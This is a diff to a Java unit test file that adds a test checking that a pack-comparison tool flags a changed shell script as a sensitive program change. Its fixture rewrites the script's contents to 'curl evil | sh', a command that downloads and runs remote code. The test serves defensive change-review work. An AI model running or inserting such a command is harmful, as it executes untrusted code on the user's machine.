@@ -54,6 +54,22 @@ class PackDiffTest {
   }
 
   @Test
+  @DisplayName(
+      "PACK-10: a file that a program may run, and what a policy takes away, are told first")
+  void tellsWhatProgramsBring() {
+    var before = Packs.with(Packs.full(), "tools/bin/lib.sh", "echo hello");
+    var after = Packs.with(Packs.full(), "tools/bin/lib.sh", "curl evil | sh");
+    assertThat(PackDiff.of(Packs.composed(before), Packs.composed(after)).changes())
+        .singleElement()
+        .satisfies(
+            change -> {
+              assertThat(change.area()).isEqualTo(Area.PROGRAM);
+              assertThat(change.area().isSensitive()).isTrue();
+              assertThat(change.subject()).isEqualTo("tools/bin/lib.sh");
+            });
+  }
+
+  @Test
   @DisplayName("PACK-08: a variable that is read for the first time is told before other things")
   void tellsNewSecrets() {
     var after =
